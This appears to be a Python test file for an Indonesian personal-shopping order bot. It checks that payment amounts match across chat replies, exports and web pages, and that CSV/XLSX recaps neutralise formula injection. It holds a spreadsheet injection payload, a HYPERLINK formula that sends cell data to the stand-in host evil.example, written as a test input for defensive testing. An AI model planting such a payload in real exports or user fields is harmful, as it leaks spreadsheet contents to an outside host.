"""One amount everywhere and exports that are safe and useful (issue #22, items 7-8), on
both databases: the exact transfer (unique digits in) is what PESANAN, the order
detail, ``/orders``, the new-order digest, the recap, the admin and the jastiper's web
pages show; ``/balance`` says what really happened; a buyer's formula never runs in the
jastiper's spreadsheet, read back with csv and openpyxl."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

from sqlalchemy import update

from bot import jobs
from locales import format_rupiah
from services import amounts, exports, reconcile
from services.statements import Credit
from storage.demo import DEMO_PHONE
from storage.models import Trip
from storage.repo.panel import OrderMoney
from tests.admin_pages import logged_in as admin_logged_in
from tests.conftest import Harness
from tests.jastiper_pages import browser
from tests.jastiper_pages import logged_in as jastiper_logged_in
from tests.journeys import (
    CALBEE,
    ROYCE,
    exact,
    joined,
    order_code,
    order_one,
    pay,
    the_order,
    tina,
)

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def rupiah(amount: int) -> str:
    return "Rp " + f"{amount:,}".replace(",", ".")


def recap_csv(h: Harness) -> list[list[str]]:
    """The last recap the jastiper received, as CSV rows (``;``, UTF-8 with a BOM)."""
    doc = h.fake.sent_to(DEMO_PHONE)[-1]
    data = h.fake.media[doc["document"]["id"]].data
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_every_formula_trigger_is_neutralised() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert exports.neutralise(text) == "'" + text
    for value in ("Sari", "12 Jl. Melati", -25_000, 0, None, "a=b"):
        assert exports.neutralise(value) == value


async def test_the_amount_to_transfer_is_the_same_on_every_screen(harness: Harness) -> None:
    h = harness
    await h.seed_demo()
    sari = await joined(h, "Sari")
    done = await order_one(h, sari, CALBEE, "1")
    code = re.search(r"JP-[A-Z0-9]{5}", done).group(0)  # type: ignore[union-attr]
    amount = exact(done)  # Rp 75.xyz: 65.000 + 10.000 fee + the unique digits
    order = await the_order(h, code)
    assert amount == rupiah(order.total + order.unique_cents) != rupiah(order.total)

    # the buyer: PESANAN and the order detail
    await h.say(sari, "PESANAN")
    (row,) = [title for title, _id in h.last_choices(sari) if code in title]
    assert row == f"{code} · {amount}"
    (detail,) = await h.tap_title(sari, row)
    assert f"Total: {amount}" in detail and f"Transfer tepat {amount}" in detail
    # the jastiper: the digest, /orders, /order and the recap
    assert await jobs.notify_new_orders(h.db, gather_seconds=0) == 1
    await h.settle()
    assert f"• {code} (DEMO) — {amount}" in h.fake.texts_to(DEMO_PHONE)[-1]
    assert f"{code} · Sari · {amount} · Menunggu pembayaran" in (await tina(h, "/orders DEMO"))[0]
    (jdetail,) = await tina(h, f"/order {code}")
    assert f"Total: {amount}" in jdetail and f"Harus ditransfer: {amount}" in jdetail
    await tina(h, "/recap DEMO csv")
    header, line = recap_csv(h)[:2]
    assert rupiah(int(line[header.index("Total transfer")])) == amount
    assert int(line[header.index("Kode unik")]) == order.unique_cents
    # the web: the jastiper's panel and the admin's order page
    async with browser(h) as web:
        await jastiper_logged_in(h, web, DEMO_PHONE, "Tina")
        assert amount in await (await web.get("/j-web/")).text()
        page = await (await web.get(f"/j-web/orders/{code}")).text()
        assert f'data-field="amount">{amount}<' in page
    await admin_logged_in(h)
    page = await (await h.client.get(f"/admin/orders/{code}")).text()
    assert f'data-field="amount">{amount}<' in page
    assert amount in await (await h.client.get("/admin/orders")).text()

    # paid: the same amount, now what came in
    await pay(h, sari)
    assert f"{code} · Sari · {amount} · Lunas" in (await tina(h, "/orders DEMO"))[0]
    (jdetail,) = await tina(h, f"/order {code}")
    assert f"Total: {amount}" in jdetail and f"Dibayar: {amount}" in jdetail
    await tina(h, "/recap DEMO csv")
    header, line = recap_csv(h)[:2]
    assert rupiah(int(line[header.index("Dibayar")])) == amount


async def dp_trip_with_two_paid_orders(h: Harness) -> tuple[str, str, str, str]:
    await h.seed_demo()
    async with h.db.transaction() as session:
        await session.execute(update(Trip).values(payment_type="dp", dp_percent=50))
    sari = await joined(h, "Sari")
    dewi = await joined(h, "Dewi")
    code_sari = await order_code(h, sari, CALBEE, "2")  # 150.000, DP 75.000
    await pay(h, sari)
    code_dewi = await order_code(h, dewi, CALBEE, "2")
    await pay(h, dewi)
    return sari, code_sari, dewi, code_dewi


async def test_balance_before_bought_says_so_and_shipping_not_billed(harness: Harness) -> None:
    h = harness
    sari, code_sari, dewi, code_dewi = await dp_trip_with_two_paid_orders(h)
    # Dewi's goods are bought and her shipping billed; Sari's neither
    await tina(h, f"/bought {code_dewi}")
    await tina(h, f"/ongkir {code_dewi} 20000")
    assert "ditagih bersama pelunasan" in h.fake.texts_to(dewi)[-1]
    assert (await the_order(h, code_dewi)).status == "bought"

    (done,) = await tina(h, "/balance DEMO")
    assert "dikirim ke 2 pembeli" in done
    bill = h.fake.texts_to(sari)[-1]
    assert bill.startswith(f"Tagihan pelunasan pesanan {code_sari}.")
    assert "dibelikan" not in bill and "Rp 0" not in bill
    assert "Ongkir: belum ditagih (menyusul)" in bill
    order = await the_order(h, code_sari)
    assert f"tepat {rupiah(order.amount_due)}" in bill and order.amount_due > 75_000
    bill = h.fake.texts_to(dewi)[-1]
    assert bill.startswith(f"Barang untuk pesanan {code_dewi} sudah dibelikan!")
    assert "Ongkir: Rp 20.000" in bill and "Total: Rp 170.000" in bill
    order = await the_order(h, code_dewi)
    assert order.status == "awaiting_balance" and 95_001 <= order.amount_due <= 95_499
    # what Dewi has paid plus what she is asked now is what her order costs
    await h.say(dewi, "PESANAN")
    (row,) = [title for title, _id in h.last_choices(dewi) if code_dewi in title]
    assert row == f"{code_dewi} · {rupiah(order.paid + order.amount_due)}"


async def test_balance_bill_in_english(harness: Harness) -> None:
    h = harness
    sari, code_sari, _dewi, _code = await dp_trip_with_two_paid_orders(h)
    await h.say(sari, "LANGUAGE")
    await h.tap_title(sari, "English")
    await tina(h, "/balance DEMO")
    bill = h.fake.texts_to(sari)[-1]
    assert bill.startswith(f"The balance bill for order {code_sari}.")
    assert "Shipping: not billed yet" in bill and "bought" not in bill


async def order_with_note(h: Harness, buyer: str, note: str) -> str:
    """Like ``order_one``, typing a note instead of skipping it; the order code."""
    await h.say(buyer, f"CARI {CALBEE}")
    await h.tap_title(buyer, CALBEE)
    await h.tap_title(buyer, "Pesan")
    await h.tap_title(buyer, "1")
    await h.say(buyer, note)
    await h.tap_title(buyer, "Checkout")
    for text in ("-Sari", "0812-3456-7890", "+Jl. Melati 5", "Jakarta Selatan", "12120"):
        await h.say(buyer, text)
    await h.tap_title(buyer, "Benar")
    (done,) = await h.tap_title(buyer, "Konfirmasi")
    return re.search(r"JP-[A-Z0-9]{5}", done).group(0)  # type: ignore[union-attr]


async def test_a_buyers_formula_never_runs_in_the_recap(harness: Harness) -> None:
    from openpyxl import load_workbook

    h = harness
    await h.seed_demo()
    buyer = await joined(h, "@Sari")
    code = await order_with_note(h, buyer, EVIL)
    await pay(h, buyer)
    await tina(h, f"/ship {code} =1+1")  # a typed tracking number is a text like any other

    # CSV: ';' separated, UTF-8 with a BOM, every trigger prefixed with a quote
    await tina(h, "/recap DEMO csv")
    header, line = recap_csv(h)[:2]
    cell = dict(zip(header, line, strict=True))
    assert cell["Catatan"] == "'" + EVIL
    assert cell["Pembeli"] == "'@Sari" and cell["Penerima"] == "'-Sari"
    assert cell["Alamat"].startswith("'+Jl. Melati 5")
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", cell["Tanggal pesan"])
    assert cell["Pesanan"] == code and cell["Harga"] == "65000"

    # XLSX: the same texts as plain strings, Rupiah numbers, a real date
    await tina(h, "/recap DEMO")
    doc = h.fake.sent_to(DEMO_PHONE)[-1]
    assert doc["document"]["filename"] == "rekap-DEMO.xlsx"
    book = load_workbook(io.BytesIO(h.fake.media[doc["document"]["id"]].data))
    sheet = book.active
    assert sheet is not None
    titles = [c.value for c in sheet[1]]
    row = {title: c for title, c in zip(titles, sheet[2], strict=True)}
    assert row["Catatan"].value == "'" + EVIL and row["Catatan"].data_type == "s"
    assert row["Pembeli"].value == "'@Sari" and row["No. resi"].value == "'=1+1"
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
    for title in ("Harga", "Fee jastip", "Total transfer"):
        assert isinstance(row[title].value, int) and row[title].number_format == '"Rp" #,##0'
    assert row["Harga"].value == 65_000 and row["Fee jastip"].value == 10_000
    assert isinstance(row["Tanggal pesan"].value, dt.datetime)
    assert row["Tanggal pesan"].number_format == exports.DATE_FORMAT


def test_a_statement_line_kept_as_proof_is_neutralised() -> None:
    credit = Credit(dt.date(2026, 12, 7), 75_123, EVIL, None, "k")
    _header, line = list(csv.reader(io.StringIO(reconcile.line_file(credit).decode())))
    assert line[1] == "'" + EVIL and line[2] == "75123"


def test_figures_add_up_what_each_order_row_shows() -> None:
    """``amounts.figures``: per status the sum of the amounts (unique digits in); a DP
    order counts its down payment as money in and its unbilled balance as still due; a
    refunded order counts what stays, the refund owed or returned apart."""
    waiting = OrderMoney("awaiting_payment", 100_000, 123, 100_123, 0, 0, 0)
    dp_paid = OrderMoney("dp_paid", 200_000, 45, 100_045, 100_045, 0, 0)
    # 2× 125.000 paid (250.077), then one item not found: 125.000 owed back
    owed = OrderMoney("paid", 125_000, 77, 125_077, 250_077, 125_000, 0)
    returned = OrderMoney("paid", 125_000, 88, 125_088, 250_088, 0, 125_000)
    cancelled = OrderMoney("cancelled", 50_000, 11, 50_011, 0, 0, 0)
    got = amounts.figures([waiting, dp_paid, owed, returned, cancelled])
    assert [amounts.amount(o) for o in (waiting, dp_paid, owed, returned, cancelled)] == [
        100_123,
        200_045,
        125_077,
        125_088,
        50_011,
    ]
    assert got.by_status == {
        "awaiting_payment": (1, 100_123),
        "dp_paid": (1, 200_045),
        "paid": (2, 125_077 + 125_088),
        "cancelled": (1, 50_011),
    }
    assert got.received == 100_045 + 125_077 + 125_088
    assert got.outstanding == 100_123 + 100_000  # the unpaid order, the DP's balance
    assert (got.refund_due, got.refunded) == (125_000, 125_000)
    assert amounts.figures([]) == amounts.Figures(by_status={})


def money_of(text: str) -> int:
    return int(text.replace("Rp", "").replace(".", "").strip())


ROW = re.compile(
    r'href="/admin/orders/(JP-\w+)">.*?data-label="Status">([^<]+)</td>\s*'
    r'<td data-label="Total" class="n">([^<]+)</td>',
    re.S,
)
STATUS_ROW = re.compile(r'<tr><td>([^<]+)</td><td class="n">(\d+)</td><td class="n">([^<]+)</td>')


def figure(page: str, label: str) -> int:
    found = re.search(r'"num">([^<]+)</span><span>' + re.escape(label) + "<", page)
    assert found, label
    return money_of(found.group(1))


async def test_the_dashboard_adds_up_dp_and_refunded_orders_as_their_rows_show(
    harness: Harness,
) -> None:
    h = harness
    await h.seed_demo()
    # Sari pays 2× Royce in full, then one is not found: Rp 260.000 is owed back to her
    sari = await joined(h, "Sari")
    refunded = await order_code(h, sari, ROYCE, "2")  # 2× 250.000 + 2× 10.000 fee
    await pay(h, sari)
    await tina(h, f"/refund {refunded} 1 1")
    # then the trip asks a 50 % down payment: Budi pays his, Dewi nothing yet
    async with h.db.transaction() as session:
        await session.execute(update(Trip).values(payment_type="dp", dp_percent=50))
    budi = await joined(h, "Budi")
    dp = await order_code(h, budi, CALBEE, "1")  # 65.000 + 10.000 fee: DP 37.500
    await pay(h, budi)
    dewi = await joined(h, "Dewi")
    unpaid = await order_code(h, dewi, CALBEE, "1")
    s, b, d = [await the_order(h, c) for c in (refunded, dp, unpaid)]
    assert (s.status, s.refund_due, b.status) == ("paid", 260_000, "dp_paid")

    await admin_logged_in(h)
    rows = ROW.findall(await (await h.client.get("/admin/orders")).text())
    shown = {code: (label, money_of(total)) for code, label, total in rows}
    assert shown == {
        refunded: ("Lunas", 260_000 + s.unique_cents),
        dp: ("DP lunas", 75_000 + b.unique_cents),
        unpaid: ("Menunggu pembayaran", 75_000 + d.unique_cents),
    }
    page = await (await h.client.get("/admin/")).text()
    table = {label: (int(n), money_of(total)) for label, n, total in STATUS_ROW.findall(page)}
    assert table == {label: (1, total) for label, total in shown.values()}
    # money in: what Sari keeps after the refund and Budi's DP; due: Budi's balance, Dewi
    assert figure(page, "Uang masuk (refund dikurangi)") == 260_000 + s.unique_cents + (
        37_500 + b.unique_cents
    )
    assert figure(page, "Belum dibayar") == 37_500 + 75_000 + d.unique_cents
    detail = await (await h.client.get(f"/admin/orders/{refunded}")).text()
    assert 'Refund belum dikembalikan</td><td class="n">Rp 260.000' in detail
    assert figure(page, "Refund belum dikembalikan") == 260_000
    assert "Refund sudah dikembalikan" not in page

    # the refund is returned: it moves from owed to returned, money in is unchanged
    await tina(h, f"/refunded {refunded}")
    after = await (await h.client.get("/admin/")).text()
    assert figure(after, "Refund sudah dikembalikan") == 260_000
    assert "Refund belum dikembalikan" not in after
    assert figure(after, "Uang masuk (refund dikurangi)") == figure(
        page, "Uang masuk (refund dikurangi)"
    )
    # the trip's own page and the jastiper's /trip count the same money in
    received = figure(page, "Uang masuk (refund dikurangi)")
    trip_page = await (await h.client.get("/admin/trips/DEMO")).text()
    assert f"<dt>Uang masuk (refund dikurangi)</dt><dd>{format_rupiah(received)}</dd>" in trip_page
    (summary, *_rest) = await tina(h, "/trip DEMO")
    assert f"Uang masuk: {format_rupiah(received)}" in summary
